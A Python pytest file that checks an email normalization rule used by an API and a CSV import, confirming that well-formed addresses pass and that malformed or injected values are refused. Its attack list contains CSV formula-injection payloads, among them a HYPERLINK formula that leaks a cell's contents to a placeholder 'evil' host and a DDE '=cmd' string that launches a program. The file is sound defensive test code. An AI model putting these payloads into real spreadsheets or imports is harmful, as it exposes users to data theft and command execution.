"""The one email rule (domain/rules.py normalize_email), shared by the API and the CSV import:
addresses as real admins type them pass; formula and markup injection does not."""

from __future__ import annotations

import csv
import io

import pytest

from chalicelib.core.errors import InvalidField
from chalicelib.domain import rules

# The cell `"=HYPERLINK(""http://evil/?""&C3,""Open"")&""@x.io"`, as a CSV reader decodes it.
HYPERLINK_CELL = '"=HYPERLINK(""http://evil/?""&C3,""Open"")&""@x.io"'
HYPERLINK = next(csv.reader(io.StringIO(HYPERLINK_CELL)))[0]

ATTACKS = [
    HYPERLINK,
    '=HYPERLINK("http://evil/?"&C3,"Open")&"@x.io',
    "=1+1@x.io",
    "+x@x.io",
    "-x@x.io",
    "@x@x.io",
    "@x.io",
    "=cmd|' /C calc'!A0@x.io",
    '"quoted"@x.io',
    'a"b@x.io',
    "a@b",
    "a@@b.io",
    "a@b@c.io",
    "a b@x.io",
    "a\tb@x.io",
    "a\r@x.io",
    "a\n@x.io",
    "a\x00@x.io",
    "a\x7f@x.io",
    "a(comment)@x.io",
    "<a@x.io>",
    "a@x.io>",
    "a,b@x.io",
    "a;b@x.io",
    "a\\b@x.io",
    "a@x.io;b@y.io",
    ".a@x.io",
    "a.@x.io",
    "a..b@x.io",
    "'a@x.io",
    "%a@x.io",
    "a@-x.io",
    "a@x-.io",
    "a@x..io",
    "a@.x.io",
    "a@x.io.",
    "a@x.i",
    "a@x.1o",
    "a@[127.0.0.1]",
    "josé@x.io",
    "a@exämple.io",
    "a" * 65 + "@x.io",
    "a@" + "b" * 64 + ".io",
]

NORMAL = [
    "jane@acme.example",
    "jane.doe@acme.example",
    "o'brien@acme.example",
    "jane+news@acme.example",
    "j_doe-2@mail.acme.co.uk",
    "x%y@acme.example",
    "_admin@acme.example",
    "7eleven@acme.example",
    "a@b.io",
    "jane@xn--exmple-cua.io",
    "jane@acme.xn--p1ai",
    "john-@acme.example",
    "a" * 64 + "@x.io",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_attack_strings_and_malformed_addresses_are_refused(value: str) -> None:
    assert not rules.is_email(value.strip().lower())
    with pytest.raises(InvalidField) as caught:
        rules.normalize_email(value)
    assert (caught.value.code, caught.value.field) == ("invalid_email", "email")


@pytest.mark.parametrize("value", NORMAL)
def test_addresses_admins_type_pass(value: str) -> None:
    assert rules.normalize_email(value) == value


def test_the_hyperlink_cell_decodes_to_a_formula() -> None:
    assert HYPERLINK == '=HYPERLINK("http://evil/?"&C3,"Open")&"@x.io'


def test_the_rule_trims_lowercases_and_names_the_field() -> None:
    assert rules.normalize_email("  O'Brien@ACME.Example\t") == "o'brien@acme.example"
    with pytest.raises(InvalidField) as caught:
        rules.normalize_email("=1+1@x.io", "admin.email")
    assert caught.value.field == "admin.email" and "admin.email" in caught.value.message


def test_the_whole_address_is_capped_at_254() -> None:
    label = "b" * 63
    long_one = "a@" + ".".join([label, label, label]) + "." + "c" * 59 + ".io"
    assert len(long_one) > 254
    assert not rules.is_email(long_one)
